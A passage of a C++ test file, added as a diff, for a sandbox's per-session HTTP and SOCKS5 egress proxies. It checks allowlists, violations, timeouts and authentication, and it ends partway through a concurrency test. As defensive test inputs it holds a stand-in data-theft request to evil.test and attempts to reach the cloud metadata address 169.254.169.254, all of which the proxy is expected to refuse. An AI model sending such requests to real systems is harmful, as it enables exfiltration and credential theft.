@@ -1,0 +1,635 @@
+// End-to-end tests of a session's proxies over real loopback sockets: a local upstream on
+// 127.0.0.1, names answered by StaticResolver, never a real outside address.
+#include "proxy/session_proxies.h"
+
+#include <sys/socket.h>
+
+#include <memory>
+#include <string>
+#include <thread>
+#include <vector>
+
+#include "absl/strings/str_cat.h"
+#include "absl/synchronization/mutex.h"
+#include "gtest/gtest.h"
+#include "policy/egress_allowlist.h"
+#include "proxy/event_loop.h"
+#include "proxy/proxy_test_support.h"
+#include "proxy/resolver.h"
+#include "proxy/socks5_parser.h"
+#include "proxy/static_resolver.h"
+
+namespace ccsandbox::proxy {
+namespace {
+
+using testing::ConnectTo;
+using testing::Fd;
+using testing::HeaderValue;
+using testing::HttpOrigin;
+using testing::ReadExactly;
+using testing::ReadToEof;
+using testing::ReadUntil;
+using testing::SeesClose;
+using testing::SendAll;
+using testing::Socks5Handshake;
+using testing::Socks5Request;
+using testing::StatusCode;
+using testing::TestServer;
+
+class Violations {
+ public:
+  ViolationCallback callback() {
+    return [this](const EgressViolation& v) {
+      absl::MutexLock lock(&mu_);
+      list_.push_back(v);
+    };
+  }
+  std::vector<EgressViolation> list() const {
+    absl::MutexLock lock(&mu_);
+    return list_;
+  }
+
+ private:
+  mutable absl::Mutex mu_;
+  std::vector<EgressViolation> list_;
+};
+
+class SessionProxiesTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    ASSERT_TRUE(echo_.ok());
+    resolver_->Add("allowed.test", {"127.0.0.1"});
+    resolver_->Add("a.wild.test", {"127.0.0.1"});
+    resolver_->Add("b.test", {"127.0.0.1"});
+  }
+
+  std::unique_ptr<SessionProxies> Start(std::vector<std::string> entries,
+                                        bool network_enabled = true,
+                                        ProxyTimeouts timeouts = ProxyTimeouts(),
+                                        Violations* violations = nullptr,
+                                        std::optional<ProxyCredentials> credentials = {},
+                                        size_t max_connections = 1024) {
+    absl::StatusOr<policy::EgressAllowlist> list =
+        policy::EgressAllowlist::Resolve(network_enabled, entries);
+    EXPECT_TRUE(list.ok()) << list.status();
+    SessionProxiesOptions options;
+    options.session_id = "test-session";
+    options.allowlist = std::make_shared<const policy::EgressAllowlist>(*std::move(list));
+    options.resolver = resolver_;
+    options.on_violation = (violations ? violations : &violations_)->callback();
+    options.timeouts = timeouts;
+    options.credentials = std::move(credentials);
+    options.max_connections = max_connections;
+    absl::StatusOr<std::unique_ptr<SessionProxies>> proxies =
+        SessionProxies::Start(loop_, std::move(options));
+    EXPECT_TRUE(proxies.ok()) << proxies.status();
+    return *std::move(proxies);
+  }
+
+  std::string Allowed(uint16_t port) { return absl::StrCat("allowed.test:", port); }
+
+  // Sends a CONNECT and returns the response head.
+  std::string Connect(int fd, const std::string& target, const std::string& extra = "") {
+    SendAll(fd,
+            absl::StrCat("CONNECT ", target, " HTTP/1.1\r\nHost: ", target, "\r\n", extra, "\r\n"));
+    return ReadUntil(fd, "\r\n\r\n");
+  }
+
+  std::string Exchange(uint16_t proxy_port, const std::string& raw) {
+    Fd fd = ConnectTo(proxy_port);
+    SendAll(fd.get(), raw);
+    return ReadToEof(fd.get());
+  }
+
+  EventLoop loop_;
+  std::shared_ptr<StaticResolver> resolver_ = std::make_shared<StaticResolver>();
+  Violations violations_;
+  TestServer echo_{testing::EchoHandler};
+};
+
+TEST_F(SessionProxiesTest, ListensOnTwoLoopbackPorts) {
+  auto proxies = Start({});
+  EXPECT_NE(proxies->http_port(), 0);
+  EXPECT_NE(proxies->socks_port(), 0);
+  EXPECT_NE(proxies->http_port(), proxies->socks_port());
+  EXPECT_EQ(proxies->http_proxy_url(), absl::StrCat("http://127.0.0.1:", proxies->http_port()));
+  EXPECT_EQ(proxies->socks_proxy_url(),
+            absl::StrCat("socks5h://127.0.0.1:", proxies->socks_port()));
+}
+
+TEST_F(SessionProxiesTest, ConnectToAnAllowedHostTunnels) {
+  auto proxies = Start({Allowed(echo_.port())});
+  Fd fd = ConnectTo(proxies->http_port());
+  const std::string head = Connect(fd.get(), Allowed(echo_.port()));
+  EXPECT_EQ(head, "HTTP/1.1 200 Connection established\r\n\r\n");
+  ASSERT_TRUE(SendAll(fd.get(), "hello through the tunnel"));
+  EXPECT_EQ(ReadExactly(fd.get(), 24), "hello through the tunnel");
+  EXPECT_TRUE(violations_.list().empty());
+  // Resolved once, connected to what was checked.
+  EXPECT_EQ(resolver_->lookups("allowed.test"), 1);
+}
+
+TEST_F(SessionProxiesTest, ConnectForwardsBytesSentWithTheHead) {
+  auto proxies = Start({Allowed(echo_.port())});
+  Fd fd = ConnectTo(proxies->http_port());
+  SendAll(fd.get(), absl::StrCat("CONNECT ", Allowed(echo_.port()), " HTTP/1.1\r\n\r\nearly"));
+  EXPECT_EQ(ReadUntil(fd.get(), "\r\n\r\n"), "HTTP/1.1 200 Connection established\r\n\r\n");
+  EXPECT_EQ(ReadExactly(fd.get(), 5), "early");
+}
+
+TEST_F(SessionProxiesTest, HalfCloseIsForwardedBothWays) {
+  auto proxies = Start({Allowed(echo_.port())});
+  Fd fd = ConnectTo(proxies->http_port());
+  ASSERT_EQ(StatusCode(Connect(fd.get(), Allowed(echo_.port()))), 200);
+  SendAll(fd.get(), "last words");
+  shutdown(fd.get(), SHUT_WR);
+  // The echo server sees EOF only if the proxy forwarded it; then it closes, and so do we.
+  EXPECT_EQ(ReadToEof(fd.get()), "last words");
+}
+
+TEST_F(SessionProxiesTest, AbsoluteFormIsForwardedWithoutHopByHopFields) {
+  HttpOrigin origin;
+  auto proxies = Start({Allowed(origin.port())});
+  const std::string response =
+      Exchange(proxies->http_port(),
+               absl::StrCat("POST http://allowed.test:", origin.port(), "/path?q=1 HTTP/1.1\r\n",
+                            "Host: somewhere-else.test\r\nProxy-Authorization: Basic c2VjcmV0\r\n",
+                            "Proxy-Connection: keep-alive\r\nConnection: keep-alive, X-Secret\r\n",
+                            "X-Secret: s\r\nUser-Agent: test/1\r\nContent-Length: 4\r\n\r\nbody"));
+  EXPECT_EQ(StatusCode(response), 200) << response;
+  EXPECT_NE(response.find("POST /path?q=1|body"), std::string::npos) << response;
+  ASSERT_EQ(origin.heads().size(), 1u);
+  const std::string head = origin.heads()[0];
+  const std::string expected_start =
+      absl::StrCat("POST /path?q=1 HTTP/1.1\r\nHost: allowed.test:", origin.port(), "\r\n");
+  EXPECT_EQ(head.rfind(expected_start, 0), 0u) << head;
+  EXPECT_NE(head.find("User-Agent: test/1\r\n"), std::string::npos);
+  EXPECT_NE(head.find("Connection: close\r\n"), std::string::npos);
+  for (const char* gone :
+       {"Proxy-Authorization", "Proxy-Connection", "X-Secret", "keep-alive", "somewhere-else"}) {
+    EXPECT_EQ(head.find(gone), std::string::npos) << gone << " in\n" << head;
+  }
+}
+
+TEST_F(SessionProxiesTest, RefusedHostGets403AndAViolationAndIsNeverResolved) {
+  auto proxies = Start({Allowed(echo_.port())});
+  Fd fd = ConnectTo(proxies->http_port());
+  const std::string response = Connect(fd.get(), "evil.test:443");
+  EXPECT_EQ(StatusCode(response), 403) << response;
+  EXPECT_EQ(HeaderValue(response, "X-Sandbox-Reason"),
+            "host evil.test is not in the session's egress allowlist");
+  EXPECT_TRUE(SeesClose(fd.get(), absl::Seconds(5)));
+  const std::vector<EgressViolation> violations = violations_.list();
+  ASSERT_EQ(violations.size(), 1u);
+  EXPECT_EQ(violations[0].action, "network-outbound");
+  EXPECT_EQ(violations[0].target, "evil.test:443");
+  EXPECT_EQ(violations[0].raw, "host evil.test is not in the session's egress allowlist");
+  EXPECT_EQ(resolver_->lookups("evil.test"), 0);  // the DNS query itself would leak data
+}
+
+TEST_F(SessionProxiesTest, RefusedAbsoluteFormGets403) {
+  auto proxies = Start({});
+  const std::string response =
+      Exchange(proxies->http_port(), "GET http://evil.test/steal?d=1 HTTP/1.1\r\n\r\n");
+  EXPECT_EQ(StatusCode(response), 403);
+  ASSERT_EQ(violations_.list().size(), 1u);
+  EXPECT_EQ(violations_.list()[0].target, "evil.test:80");
+}
+
+TEST_F(SessionProxiesTest, AllowedNameOnAnotherPortIsRefused) {
+  auto proxies = Start({Allowed(echo_.port())});
+  const std::string response =
+      Exchange(proxies->http_port(), "CONNECT allowed.test:25 HTTP/1.1\r\n\r\n");
+  EXPECT_EQ(StatusCode(response), 403);
+  EXPECT_NE(HeaderValue(response, "X-Sandbox-Reason").find("port 25 is not allowed"),
+            std::string::npos);
+}
+
+TEST_F(SessionProxiesTest, MetadataIsRefusedEvenWhenAWildcardAllowsIt) {
+  auto proxies = Start({"*.google.internal", "*.google.internal:8080"});
+  for (const char* target : {"metadata.google.internal:80", "METADATA.google.internal.:8080"}) {
+    const std::string response =
+        Exchange(proxies->http_port(), absl::StrCat("CONNECT ", target, " HTTP/1.1\r\n\r\n"));
+    EXPECT_EQ(StatusCode(response), 403) << target;
+    EXPECT_NE(HeaderValue(response, "X-Sandbox-Reason").find("permanently denied"),
+              std::string::npos);
+  }
+  // Also through SOCKS5, also as an address.
+  Fd fd = ConnectTo(proxies->socks_port());
+  ASSERT_EQ(Socks5Handshake(fd.get()), 0);
+  EXPECT_EQ(Socks5Request(fd.get(), 1, 1, "169.254.169.254", 80), kSocks5NotAllowed);
+  EXPECT_EQ(resolver_->total_lookups(), 0);
+  ASSERT_EQ(violations_.list().size(), 3u);
+  EXPECT_EQ(violations_.list()[2].target, "169.254.169.254:80");
+}
+
+TEST_F(SessionProxiesTest, NetworkDisabledRefusesEverything) {
+  auto proxies = Start({Allowed(echo_.port()), "127.0.0.1:" + std::to_string(echo_.port())},
+                       /*network_enabled=*/false);
+  for (const std::string& target : {Allowed(echo_.port()), std::string("github.com:443"),
+                                    absl::StrCat("127.0.0.1:", echo_.port())}) {
+    const std::string response =
+        Exchange(proxies->http_port(), absl::StrCat("CONNECT ", target, " HTTP/1.1\r\n\r\n"));
+    EXPECT_EQ(StatusCode(response), 403) << target;
+    EXPECT_NE(HeaderValue(response, "X-Sandbox-Reason").find("networkEnabled=false"),
+              std::string::npos);
+  }
+  Fd fd = ConnectTo(proxies->socks_port());
+  ASSERT_EQ(Socks5Handshake(fd.get()), 0);
+  EXPECT_EQ(Socks5Request(fd.get(), 1, 3, "allowed.test", echo_.port()), kSocks5NotAllowed);
+  EXPECT_EQ(violations_.list().size(), 4u);
+  EXPECT_EQ(echo_.accepted(), 0);
+}
+
+TEST_F(SessionProxiesTest, NameResolvingToLoopbackNeedsTheExactName) {
+  auto proxies = Start({absl::StrCat("*.wild.test:", echo_.port())});
+  const std::string response =
+      Exchange(proxies->http_port(),
+               absl::StrCat("CONNECT a.wild.test:", echo_.port(), " HTTP/1.1\r\n\r\n"));
+  EXPECT_EQ(StatusCode(response), 403) << response;
+  EXPECT_NE(HeaderValue(response, "X-Sandbox-Reason").find("DNS-rebinding"), std::string::npos);
+  ASSERT_EQ(violations_.list().size(), 1u);
+  EXPECT_EQ(violations_.list()[0].target, absl::StrCat("a.wild.test:", echo_.port()));
+  EXPECT_EQ(echo_.accepted(), 0);
+
+  auto exact = Start({absl::StrCat("a.wild.test:", echo_.port())});
+  Fd fd = ConnectTo(exact->http_port());
+  EXPECT_EQ(StatusCode(Connect(fd.get(), absl::StrCat("a.wild.test:", echo_.port()))), 200);
+}
+
+TEST_F(SessionProxiesTest, IpLiteralsOnlyWhenListedExactly) {
+  const std::string literal = absl::StrCat("127.0.0.1:", echo_.port());
+  auto unlisted = Start({Allowed(echo_.port())});
+  EXPECT_EQ(StatusCode(Exchange(unlisted->http_port(),
+                                absl::StrCat("CONNECT ", literal, " HTTP/1.1\r\n\r\n"))),
+            403);
+  auto listed = Start({literal});
+  Fd fd = ConnectTo(listed->http_port());
+  EXPECT_EQ(StatusCode(Connect(fd.get(), literal)), 200);
+  SendAll(fd.get(), "ip");
+  EXPECT_EQ(ReadExactly(fd.get(), 2), "ip");
+}
+
+TEST_F(SessionProxiesTest, MalformedAndOversizedRequests) {
+  auto proxies = Start({Allowed(echo_.port())});
+  struct Case {
+    std::string raw;
+    int status;
+  };
+  std::string huge = "CONNECT allowed.test:1 HTTP/1.1\r\nX-Big: ";
+  huge += std::string(17 * 1024, 'a');
+  huge += "\r\n\r\n";
+  std::string many = "GET http://allowed.test/ HTTP/1.1\r\n";
+  for (int i = 0; i < 101; ++i) many += absl::StrCat("X-", i, ": v\r\n");
+  many += "\r\n";
+  const Case cases[] = {
+      {huge, 431},
+      {many, 431},
+      {"garbage\r\n\r\n", 400},
+      {"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n", 400},
+      {"GET https://allowed.test/ HTTP/1.1\r\n\r\n", 400},
+      {"CONNECT allowed.test HTTP/1.1\r\n\r\n", 400},
+      {"CONNECT allowed.test:443 HTTP/1.1\nHost: x\r\n\r\n", 400},
+      {"GET http://allowed.test/ HTTP/1.1\r\nContent-Length: 1\r\nTransfer-Encoding: "
+       "chunked\r\n\r\n",
+       400},
+      {"GET http://user:pw@allowed.test/ HTTP/1.1\r\n\r\n", 400},
+      {"GET http://allowed.test/ HTTP/2.0\r\n\r\n", 505},
+  };
+  for (const Case& c : cases) {
+    const std::string response = Exchange(proxies->http_port(), c.raw);
+    EXPECT_EQ(StatusCode(response), c.status) << c.raw.substr(0, 80) << "\n-> " << response;
+    EXPECT_FALSE(HeaderValue(response, "X-Sandbox-Reason").empty());
+  }
+  EXPECT_TRUE(violations_.list().empty());  // malformed is not an egress attempt
+  EXPECT_EQ(echo_.accepted(), 0);
+}
+
+TEST_F(SessionProxiesTest, UpstreamFailuresAre502And504) {
+  const uint16_t closed = testing::UnusedPort();
+  resolver_->Add("slow.test", {"127.0.0.1"}, absl::Seconds(3));
+  ProxyTimeouts timeouts;
+  timeouts.connect = absl::Milliseconds(300);
+  auto proxies = Start({Allowed(closed), "slow.test", "unknown.test"}, true, timeouts);
+  std::string response = Exchange(proxies->http_port(),
+                                  absl::StrCat("CONNECT ", Allowed(closed), " HTTP/1.1\r\n\r\n"));
+  EXPECT_EQ(StatusCode(response), 502) << response;
+  EXPECT_NE(HeaderValue(response, "X-Sandbox-Reason").find("refused"), std::string::npos)
+      << response;
+  response = Exchange(proxies->http_port(), "GET http://unknown.test/ HTTP/1.1\r\n\r\n");
+  EXPECT_EQ(StatusCode(response), 502) << response;
+  const absl::Time start = absl::Now();
+  response = Exchange(proxies->http_port(), "CONNECT slow.test:443 HTTP/1.1\r\n\r\n");
+  EXPECT_EQ(StatusCode(response), 504) << response;
+  EXPECT_LT(absl::Now() - start, absl::Seconds(2));
+  EXPECT_TRUE(violations_.list().empty());
+
+  Fd fd = ConnectTo(proxies->socks_port());
+  ASSERT_EQ(Socks5Handshake(fd.get()), 0);
+  EXPECT_EQ(Socks5Request(fd.get(), 1, 3, "allowed.test", closed), kSocks5ConnectionRefused);
+  fd = ConnectTo(proxies->socks_port());
+  ASSERT_EQ(Socks5Handshake(fd.get()), 0);
+  EXPECT_EQ(Socks5Request(fd.get(), 1, 3, "slow.test", 443), kSocks5HostUnreachable);
+}
+
+TEST_F(SessionProxiesTest, HandshakeTimeoutAnswers408AndCloses) {
+  ProxyTimeouts timeouts;
+  timeouts.handshake = absl::Milliseconds(200);
+  auto proxies = Start({}, true, timeouts);
+  Fd http = ConnectTo(proxies->http_port());
+  SendAll(http.get(), "CONNECT allowed.test:443 HTTP/1.1\r\n");  // never finished
+  const std::string response = ReadToEof(http.get());
+  EXPECT_EQ(StatusCode(response), 408) << response;
+  Fd socks = ConnectTo(proxies->socks_port());
+  SendAll(socks.get(), std::string("\x05", 1));
+  EXPECT_TRUE(SeesClose(socks.get(), absl::Seconds(5)));
+}
+
+TEST_F(SessionProxiesTest, IdleAndHalfOpenTunnelsAreClosed) {
+  ProxyTimeouts timeouts;
+  timeouts.idle = absl::Milliseconds(300);
+  timeouts.half_open = absl::Milliseconds(300);
+  auto proxies = Start({Allowed(echo_.port())}, true, timeouts);
+  Fd fd = ConnectTo(proxies->http_port());
+  ASSERT_EQ(StatusCode(Connect(fd.get(), Allowed(echo_.port()))), 200);
+  SendAll(fd.get(), "x");
+  EXPECT_EQ(ReadExactly(fd.get(), 1), "x");
+  const absl::Time start = absl::Now();
+  EXPECT_TRUE(SeesClose(fd.get(), absl::Seconds(5)));
+  EXPECT_GE(absl::Now() - start, absl::Milliseconds(200));
+}
+
+TEST_F(SessionProxiesTest, HalfOpenTunnelIsClosedWhenTheOtherSideGoesQuiet) {
+  // An upstream that reads to EOF and then neither answers nor closes.
+  TestServer silent([](int fd) {
+    testing::ReadToEof(fd);
+    absl::SleepFor(absl::Milliseconds(1500));
+  });
+  ProxyTimeouts timeouts;
+  timeouts.half_open = absl::Milliseconds(300);
+  auto proxies = Start({Allowed(silent.port())}, true, timeouts);
+  Fd fd = ConnectTo(proxies->http_port());
+  ASSERT_EQ(StatusCode(Connect(fd.get(), Allowed(silent.port()))), 200);
+  SendAll(fd.get(), "request");
+  shutdown(fd.get(), SHUT_WR);
+  const absl::Time start = absl::Now();
+  EXPECT_TRUE(SeesClose(fd.get(), absl::Seconds(4)));
+  EXPECT_GE(absl::Now() - start, absl::Milliseconds(200));
+}
+
+TEST_F(SessionProxiesTest, StopDuringASlowResolutionReturnsAtOnce) {
+  resolver_->Add("slow.test", {"127.0.0.1"}, absl::Seconds(3));
+  auto proxies = Start({absl::StrCat("slow.test:", echo_.port())});
+  Fd fd = ConnectTo(proxies->http_port());
+  SendAll(fd.get(), absl::StrCat("CONNECT slow.test:", echo_.port(), " HTTP/1.1\r\n\r\n"));
+  absl::SleepFor(absl::Milliseconds(100));
+  EXPECT_EQ(proxies->open_connections(), 1u);
+  const absl::Time start = absl::Now();
+  proxies->Stop();
+  EXPECT_LT(absl::Now() - start, absl::Seconds(1));
+  EXPECT_TRUE(SeesClose(fd.get(), absl::Seconds(5)));
+  EXPECT_EQ(echo_.accepted(), 0);
+}
+
+TEST_F(SessionProxiesTest, SystemResolverAnswersFromTheHostsFile) {
+  // localhost comes from /etc/hosts: no DNS query leaves the machine.
+  SessionProxiesOptions options;
+  absl::StatusOr<policy::EgressAllowlist> list = policy::EgressAllowlist::Resolve(
+      true, std::vector<std::string>{absl::StrCat("localhost:", echo_.port())});
+  ASSERT_TRUE(list.ok());
+  options.allowlist = std::make_shared<const policy::EgressAllowlist>(*std::move(list));
+  options.resolver = std::make_shared<SystemResolver>(1);
+  absl::StatusOr<std::unique_ptr<SessionProxies>> proxies =
+      SessionProxies::Start(loop_, std::move(options));
+  ASSERT_TRUE(proxies.ok());
+  Fd fd = ConnectTo((*proxies)->http_port());
+  const std::string response = Connect(fd.get(), absl::StrCat("localhost:", echo_.port()));
+  if (StatusCode(response) == 502) GTEST_SKIP() << "no localhost entry here: " << response;
+  ASSERT_EQ(StatusCode(response), 200) << response;
+  SendAll(fd.get(), "sys");
+  EXPECT_EQ(ReadExactly(fd.get(), 3), "sys");
+  (*proxies)->Stop();
+}
+
+TEST_F(SessionProxiesTest, Socks5ConnectByDomainIpv4AndIpv6) {
+  auto proxies = Start({Allowed(echo_.port()), absl::StrCat("127.0.0.1:", echo_.port())});
+  Fd by_name = ConnectTo(proxies->socks_port());
+  ASSERT_EQ(Socks5Handshake(by_name.get()), 0);
+  ASSERT_EQ(Socks5Request(by_name.get(), 1, 3, "allowed.test", echo_.port()), kSocks5Succeeded);
+  SendAll(by_name.get(), "via socks");
+  EXPECT_EQ(ReadExactly(by_name.get(), 9), "via socks");
+
+  Fd by_ip = ConnectTo(proxies->socks_port());
+  ASSERT_EQ(Socks5Handshake(by_ip.get()), 0);
+  ASSERT_EQ(Socks5Request(by_ip.get(), 1, 1, "127.0.0.1", echo_.port()), kSocks5Succeeded);
+  SendAll(by_ip.get(), "v4");
+  EXPECT_EQ(ReadExactly(by_ip.get(), 2), "v4");
+
+  // An IPv4-mapped IPv6 address is the IPv4 address it carries.
+  Fd mapped = ConnectTo(proxies->socks_port());
+  ASSERT_EQ(Socks5Handshake(mapped.get()), 0);
+  ASSERT_EQ(Socks5Request(mapped.get(), 1, 4, "::ffff:127.0.0.1", echo_.port()), kSocks5Succeeded);
+  SendAll(mapped.get(), "mapped");
+  EXPECT_EQ(ReadExactly(mapped.get(), 6), "mapped");
+
+  Fd unlisted = ConnectTo(proxies->socks_port());
+  ASSERT_EQ(Socks5Handshake(unlisted.get()), 0);
+  EXPECT_EQ(Socks5Request(unlisted.get(), 1, 1, "127.0.0.2", echo_.port()), kSocks5NotAllowed);
+  ASSERT_EQ(violations_.list().size(), 1u);
+  EXPECT_EQ(violations_.list()[0].target, absl::StrCat("127.0.0.2:", echo_.port()));
+
+  TestServer echo6(testing::EchoHandler, /*ipv6=*/true);
+  if (!echo6.ok()) GTEST_SKIP() << "no IPv6 loopback here";
+  auto v6 = Start({absl::StrCat("[::1]:", echo6.port())});
+  Fd by_v6 = ConnectTo(v6->socks_port());
+  ASSERT_EQ(Socks5Handshake(by_v6.get()), 0);
+  ASSERT_EQ(Socks5Request(by_v6.get(), 1, 4, "::1", echo6.port()), kSocks5Succeeded);
+  SendAll(by_v6.get(), "v6");
+  EXPECT_EQ(ReadExactly(by_v6.get(), 2), "v6");
+  Fd http_v6 = ConnectTo(v6->http_port());
+  EXPECT_EQ(StatusCode(Connect(http_v6.get(), absl::StrCat("[::1]:", echo6.port()))), 200);
+}
+
+TEST_F(SessionProxiesTest, Socks5BindAndUdpAssociateAreNotSupported) {
+  auto proxies = Start({Allowed(echo_.port())});
+  for (uint8_t command : {kSocks5CommandBind, kSocks5CommandUdpAssociate}) {
+    Fd fd = ConnectTo(proxies->socks_port());
+    ASSERT_EQ(Socks5Handshake(fd.get()), 0);
+    EXPECT_EQ(Socks5Request(fd.get(), command, 3, "allowed.test", echo_.port()),
+              kSocks5CommandNotSupported);
+    EXPECT_TRUE(SeesClose(fd.get(), absl::Seconds(5)));
+  }
+  const std::vector<EgressViolation> violations = violations_.list();
+  ASSERT_EQ(violations.size(), 2u);
+  EXPECT_NE(violations[0].raw.find("BIND"), std::string::npos);
+  EXPECT_NE(violations[1].raw.find("UDP ASSOCIATE"), std::string::npos);
+  EXPECT_EQ(echo_.accepted(), 0);
+}
+
+TEST_F(SessionProxiesTest, Socks5MalformedRequests) {
+  auto proxies = Start({Allowed(echo_.port())});
+  Fd fd = ConnectTo(proxies->socks_port());
+  ASSERT_EQ(Socks5Handshake(fd.get()), 0);
+  SendAll(fd.get(), std::string("\x05\x01\x00\x09\x01\x02", 6));
+  const std::string reply = ReadExactly(fd.get(), 10);
+  ASSERT_EQ(reply.size(), 10u);
+  EXPECT_EQ(reply[1], kSocks5AddressTypeNotSupported);
+  Fd socks4 = ConnectTo(proxies->socks_port());
+  SendAll(socks4.get(), std::string("\x04\x01\x00\x50\x7f\x00\x00\x01\x00", 9));
+  EXPECT_TRUE(SeesClose(socks4.get(), absl::Seconds(5)));
+  Fd no_method = ConnectTo(proxies->socks_port());
+  SendAll(no_method.get(), std::string("\x05\x01\x80", 3));
+  EXPECT_EQ(ReadExactly(no_method.get(), 2), std::string("\x05\xff", 2));
+}
+
+TEST_F(SessionProxiesTest, CredentialsAreIgnoredUnlessTheSessionHasThem) {
+  auto open = Start({Allowed(echo_.port())});
+  Fd any = ConnectTo(open->socks_port());
+  ASSERT_EQ(Socks5Handshake(any.get(), /*with_userpass=*/true, "anyone", "anything"), 0);
+  EXPECT_EQ(Socks5Request(any.get(), 1, 3, "allowed.test", echo_.port()), kSocks5Succeeded);
+
+  auto locked = Start({Allowed(echo_.port())}, true, ProxyTimeouts(), nullptr,
+                      ProxyCredentials{"sandbox", "s3cret"});
+  Fd no_auth = ConnectTo(locked->socks_port());
+  EXPECT_EQ(Socks5Handshake(no_auth.get()), 0xff);
+  Fd wrong = ConnectTo(locked->socks_port());
+  EXPECT_EQ(Socks5Handshake(wrong.get(), true, "sandbox", "guess"), 1);
+  Fd right = ConnectTo(locked->socks_port());
+  ASSERT_EQ(Socks5Handshake(right.get(), true, "sandbox", "s3cret"), 0);
+  EXPECT_EQ(Socks5Request(right.get(), 1, 3, "allowed.test", echo_.port()), kSocks5Succeeded);
+
+  const std::string connect = absl::StrCat("CONNECT ", Allowed(echo_.port()), " HTTP/1.1\r\n");
+  std::string response = Exchange(locked->http_port(), connect + "\r\n");
+  EXPECT_EQ(StatusCode(response), 407);
+  EXPECT_EQ(HeaderValue(response, "Proxy-Authenticate"), "Basic realm=\"sandbox egress\"");
+  response = Exchange(locked->http_port(),
+                      connect + "Proxy-Authorization: Basic c2FuZGJveDpndWVzcw==\r\n\r\n");
+  EXPECT_EQ(StatusCode(response), 407);
+  Fd http = ConnectTo(locked->http_port());
+  SendAll(http.get(), connect + "Proxy-Authorization: Basic c2FuZGJveDpzM2NyZXQ=\r\n\r\n");
+  EXPECT_EQ(StatusCode(ReadUntil(http.get(), "\r\n\r\n")), 200);
+}
+
+TEST_F(SessionProxiesTest, TwoSessionsDoNotSeeEachOthersDecisions) {
+  Violations a_violations;
+  Violations b_violations;
+  auto a = Start({Allowed(echo_.port())}, true, ProxyTimeouts(), &a_violations);
+  auto b = Start({absl::StrCat("b.test:", echo_.port())}, true, ProxyTimeouts(), &b_violations);
+  EXPECT_NE(a->http_port(), b->http_port());
+  EXPECT_NE(a->socks_port(), b->socks_port());
+  const std::string to_a = absl::StrCat("CONNECT ", Allowed(echo_.port()), " HTTP/1.1\r\n\r\n");
+  const std::string to_b = absl::StrCat("CONNECT b.test:", echo_.port(), " HTTP/1.1\r\n\r\n");
+  Fd a_ok = ConnectTo(a->http_port());
+  SendAll(a_ok.get(), to_a);
+  EXPECT_EQ(StatusCode(ReadUntil(a_ok.get(), "\r\n\r\n")), 200);
+  Fd b_ok = ConnectTo(b->http_port());
+  SendAll(b_ok.get(), to_b);
+  EXPECT_EQ(StatusCode(ReadUntil(b_ok.get(), "\r\n\r\n")), 200);
+  EXPECT_EQ(StatusCode(Exchange(a->http_port(), to_b)), 403);
+  EXPECT_EQ(StatusCode(Exchange(b->http_port(), to_a)), 403);
+  ASSERT_EQ(a_violations.list().size(), 1u);
+  ASSERT_EQ(b_violations.list().size(), 1u);
+  EXPECT_EQ(a_violations.list()[0].target, absl::StrCat("b.test:", echo_.port()));
+  EXPECT_EQ(b_violations.list()[0].target, absl::StrCat("allowed.test:", echo_.port()));
+  // Stopping one leaves the other's tunnel alone.
+  a->Stop();
+  EXPECT_TRUE(SeesClose(a_ok.get(), absl::Seconds(5)));
+  SendAll(b_ok.get(), "still here");
+  EXPECT_EQ(ReadExactly(b_ok.get(), 10), "still here");
+}
+
+TEST_F(SessionProxiesTest, StopClosesListenersAndEveryTunnel) {
+  auto proxies = Start({Allowed(echo_.port())});
+  const uint16_t http_port = proxies->http_port();
+  const uint16_t socks_port = proxies->socks_port();
+  std::vector<Fd> tunnels;
+  for (int i = 0; i < 5; ++i) {
+    tunnels.push_back(ConnectTo(http_port));
+    ASSERT_EQ(StatusCode(Connect(tunnels.back().get(), Allowed(echo_.port()))), 200);
+  }
+  Fd negotiating = ConnectTo(socks_port);
+  SendAll(negotiating.get(), std::string("\x05", 1));
+  Fd half_head = ConnectTo(http_port);
+  SendAll(half_head.get(), "CONNECT allowed");
+  absl::SleepFor(absl::Milliseconds(50));
+  EXPECT_EQ(proxies->open_connections(), 7u);
+  proxies->Stop();
+  EXPECT_EQ(proxies->open_connections(), 0u);
+  for (Fd& fd : tunnels) EXPECT_TRUE(SeesClose(fd.get(), absl::Seconds(5)));
+  EXPECT_TRUE(SeesClose(negotiating.get(), absl::Seconds(5)));
+  EXPECT_TRUE(SeesClose(half_head.get(), absl::Seconds(5)));
+  EXPECT_FALSE(ConnectTo(http_port).valid());
+  EXPECT_FALSE(ConnectTo(socks_port).valid());
+  proxies->Stop();  // idempotent
+}
+
+TEST_F(SessionProxiesTest, ConnectionLimitPerSession) {
+  auto proxies = Start({Allowed(echo_.port())}, true, ProxyTimeouts(), nullptr, std::nullopt,
+                       /*max_connections=*/2);
+  Fd one = ConnectTo(proxies->http_port());
+  Fd two = ConnectTo(proxies->http_port());
+  absl::SleepFor(absl::Milliseconds(50));
+  Fd three = ConnectTo(proxies->http_port());
+  EXPECT_TRUE(SeesClose(three.get(), absl::Seconds(5)));
+  EXPECT_EQ(StatusCode(Connect(one.get(), Allowed(echo_.port()))), 200);
+}
+
+TEST_F(SessionProxiesTest, BulkTransferIsExactThroughBothProxies) {
+  TestServer source(testing::SourceHandler);
+  auto proxies = Start({Allowed(source.port())});
+  constexpr uint64_t kBytes = 32ull << 20;
+  std::string length;
+  for (int shift = 56; shift >= 0; shift -= 8) length.push_back(static_cast<char>(kBytes >> shift));
+  auto check = [&](int fd) {
+    ASSERT_TRUE(SendAll(fd, length));
+    const std::string data = ReadToEof(fd);
+    ASSERT_EQ(data.size(), kBytes);
+    for (uint64_t i = 0; i < kBytes; i += 4093) {
+      ASSERT_EQ(data[i], testing::PatternByte(i)) << i;
+    }
+  };
+  Fd http = ConnectTo(proxies->http_port());
+  ASSERT_EQ(StatusCode(Connect(http.get(), Allowed(source.port()))), 200);
+  check(http.get());
+  Fd socks = ConnectTo(proxies->socks_port());
+  ASSERT_EQ(Socks5Handshake(socks.get()), 0);
+  ASSERT_EQ(Socks5Request(socks.get(), 1, 3, "allowed.test", source.port()), kSocks5Succeeded);
+  check(socks.get());
+}
+
+TEST_F(SessionProxiesTest, ManyConcurrentTunnelsOnOneLoop) {
+  auto proxies = Start({Allowed(echo_.port())});
+  std::vector<std::thread> clients;
+  std::atomic<int> ok{0};
+  for (int t = 0; t < 16; ++t) {
+    clients.emplace_back([&, t] {
+      for (int i = 0; i < 20; ++i) {
+        Fd fd = ConnectTo(t % 2 ? proxies->http_port() : proxies->socks_port());
+        bool good;
+        if (t % 2) {
